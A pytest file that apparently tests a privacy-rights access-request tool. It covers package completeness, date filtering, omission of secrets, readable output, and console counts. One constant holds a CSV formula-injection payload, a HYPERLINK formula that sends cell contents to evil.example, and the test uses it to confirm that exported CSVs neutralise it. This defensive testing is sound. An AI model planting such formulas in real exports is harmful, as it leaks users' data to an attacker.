"""The README's tour: Avery asks for a copy with the form's default period, "the last 12 months".

The package holds every record Lumen still holds about her (a card and a subscription from 2023,
all three orders with their items), the visits and messages of the period, no secret, a page a
person can read, CSV files a spreadsheet cannot be tricked by, and the console counts what the
package holds.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import zipfile
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from datetime import UTC, timedelta
from pathlib import Path
from typing import Any

import pytest

from rightful.connectors.sql import dispose_all
from rightful.core import clock
from rightful.core.db import unit_of_work
from rightful.core.runtime import Runtime
from rightful.demo.estate import ANCHOR
from rightful.rights import flows, service
from rightful.rights.execution import run_request
from rightful.rights.package import load
from rightful.rights.packaging import package_vault
from rightful.rights.schemas import RequestIn
from rightful.security.permissions import system_actor
from tests.support.app import AVERY, App, latest_code, make_settings, prepare

# Shortly after the demo's fixed moment, so "the last 12 months" cuts the same rows every year.
TODAY = ANCHOR.replace(tzinfo=UTC) + timedelta(days=5)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for a refund")'


@dataclass
class Package:
    files: dict[str, bytes]

    @property
    def data(self) -> dict[str, Any]:
        return json.loads(self.files["data.json"])  # type: ignore[no-any-return]

    @property
    def page(self) -> str:
        return self.files["index.html"].decode()

    def rows(self, collection: str) -> list[dict[str, Any]]:
        return [r for colls in self.data["data"].values() for r in colls.get(collection, [])]

    def csv(self, collection: str) -> list[dict[str, str]]:
        name = next(n for n in self.files if n.endswith(f"/{collection}.csv"))
        return list(csv.DictReader(io.StringIO(self.files[name].decode())))


@pytest.fixture
def frozen_clock() -> Iterator[None]:
    clock.freeze(TODAY)
    yield
    clock.freeze(None)


def estate(runtime: Runtime, system: str) -> sqlite3.Connection:
    return sqlite3.connect(runtime.settings.data_dir / "estate" / f"{system}.db")


def averys_package(runtime: Runtime) -> Package:
    """Avery's access request with the form's defaults, verified, approved and run."""
    data = RequestIn(request_type="access", declaration_signature="Avery Quinn", **AVERY)  # type: ignore[arg-type]
    assert data.date_range == "last_12_months"
    with unit_of_work(runtime.sessions) as session:
        request_id = flows.submit(session, runtime.settings, data, client="test").id
    with unit_of_work(runtime.sessions) as session:
        code = latest_code(runtime, request_id)
        assert (
            flows.verify(session, runtime.settings, request_id=request_id, code=code).error is None
        )
    with unit_of_work(runtime.sessions) as session:
        service.approve_request(
            session, runtime.settings, request_id=request_id, actor=system_actor("test")
        )
    assert run_request(runtime.sessions, runtime.settings, request_id) == "completed"
    with runtime.sessions() as session:
        req = service.access_request(session, request_id)
        blob = load(package_vault(runtime.settings), runtime.settings.package_dir, req.package_file)
    with zipfile.ZipFile(io.BytesIO(blob)) as zf:
        return Package({n: zf.read(n) for n in zf.namelist()})


@pytest.fixture
def tour(tmp_path: Path, frozen_clock: None) -> Iterator[tuple[Runtime, Package]]:
    runtime = prepare(make_settings(tmp_path), people=20)
    with closing(estate(runtime, "storefront")) as db, db:
        db.execute("UPDATE product_reviews SET body = ? WHERE customer_id = 1", (FORMULA,))
    try:
        yield runtime, averys_package(runtime)
    finally:
        runtime.engine.dispose()
        dispose_all()


def held(runtime: Runtime, system: str, query: str) -> list[Any]:
    with closing(estate(runtime, system)) as db:
        return [row[0] for row in db.execute(query)]


def test_every_record_still_held_is_in_the_package_whatever_its_date(
    tour: tuple[Runtime, Package],
) -> None:
    runtime, package = tour
    store, marketing = "storefront", "engagement"
    for collection, query in {
        "orders": "SELECT id FROM orders WHERE customer_id = 1",
        "payment_methods": "SELECT id FROM payment_methods WHERE customer_id = 1",
        "addresses": "SELECT id FROM addresses WHERE customer_id = 1",
        "product_reviews": "SELECT id FROM product_reviews WHERE customer_id = 1",
    }.items():
        assert [r["id"] for r in package.rows(collection)] == held(runtime, store, query)
    subscriptions = held(
        runtime,
        marketing,
        "SELECT id FROM marketing_subscriptions WHERE email = 'avery.quinn@example.com'",
    )
    assert [r["id"] for r in package.rows("marketing_subscriptions")] == subscriptions
    assert len(package.rows("orders")) == 3
    assert any(c["created_at"].startswith("2023") for c in package.rows("payment_methods"))


def test_every_item_belongs_to_an_order_in_the_package(tour: tuple[Runtime, Package]) -> None:
    _, package = tour
    orders = {o["id"] for o in package.csv("orders")}
    assert {i["order_id"] for i in package.csv("order_items")} <= orders
    assert len(package.csv("order_items")) == 5


def test_only_visits_of_the_period_are_in_the_package(tour: tuple[Runtime, Package]) -> None:
    _, package = tour
    start = (TODAY - timedelta(days=365)).date().isoformat()
    visits = [v["started_at"][:10] for v in package.rows("web_sessions")]
    assert visits and all(day >= start for day in visits)
    assert len(visits) == 4  # the fifth, from 2023, is outside the last 12 months


def test_no_secret_is_in_any_file_and_the_page_says_what_we_hold(
    tour: tuple[Runtime, Package],
) -> None:
    runtime, package = tour
    with closing(estate(runtime, "storefront")) as db:
        secrets = (
            db.execute(
                "SELECT password_hash, security_answer FROM customers WHERE id = 1"
            ).fetchone()
            + db.execute(
                "SELECT card_token, card_last4 FROM payment_methods WHERE customer_id = 1"
            ).fetchone()
        )
    for name, content in package.files.items():
        for secret in secrets:
            assert str(secret).encode() not in content, f"a secret ({secret[:6]}…) is in {name}"
    assert "We hold card data" in package.page
    assert "last four digits of the card number, payment token (Saved cards)" in package.page
    assert "We hold your sign-in details" in package.page


def test_the_page_shows_orders_with_their_items_in_plain_words(
    tour: tuple[Runtime, Package],
) -> None:
    _, package = tour
    text = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", package.page))
    assert re.search(r"Order placed August 13, 2023 .*Lumen Hub \(2nd gen\) 1 \$129\.00", text)
    assert "Order total $228.96" in text
    for schema_word in ("Argon2", "ISO 3166", "E.164", "The customer who placed the order"):
        assert schema_word not in text
    for internal in ("Customer number", "Order number", "Shipping address number"):
        assert f"<dt>{internal}</dt>" not in package.page
        assert f'<th scope="col">{internal}</th>' not in package.page


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tour: tuple[Runtime, Package]) -> None:
    _, package = tour
    assert [r["body"] for r in package.csv("product_reviews")] == ["'" + FORMULA]
    assert [r["body"] for r in package.rows("product_reviews")] == [FORMULA]


def test_the_console_counts_what_the_package_holds(rightful_app: App) -> None:
    from rightful.worker.loop import run_once
    from tests.web.test_admin import sign_in
    from tests.web.test_api import submit

    clock.freeze(TODAY)
    try:
        app, auth = rightful_app, rightful_app.auth
        rid = str(submit(app, date_range="last_12_months")["id"])
        code = latest_code(app.runtime, rid)
        app.client.post(f"/api/v1/rights-requests/{rid}/verify", headers=auth, json={"code": code})
        app.client.post(f"/api/v1/rights-requests/{rid}/approve", headers=auth)
        assert run_once(app.runtime) == 1
        blob = app.client.get(f"/api/v1/rights-requests/{rid}/package", headers=auth).content
        sign_in(app)
        page = app.client.get(f"/admin/requests/{rid}").text
    finally:
        clock.freeze(None)
    with zipfile.ZipFile(io.BytesIO(blob)) as zf:
        in_zip = {
            n.rsplit("/", 1)[1].removesuffix(".csv"): len(
                list(csv.DictReader(io.StringIO(zf.read(n).decode())))
            )
            for n in zf.namelist()
            if n.endswith(".csv")
        }
    shown = {
        address.split(":")[1]: int(count)
        for address, count in re.findall(
            r"<code>([a-z_]+:[a-z_]+)</code></td><td data-label=\"[^\"]+\" class=\"num\">(\d+)",
            page,
        )
    }
    assert shown == {c: in_zip.get(c, 0) for c in shown}
    assert shown["orders"] == 3 and shown["web_sessions"] == 4
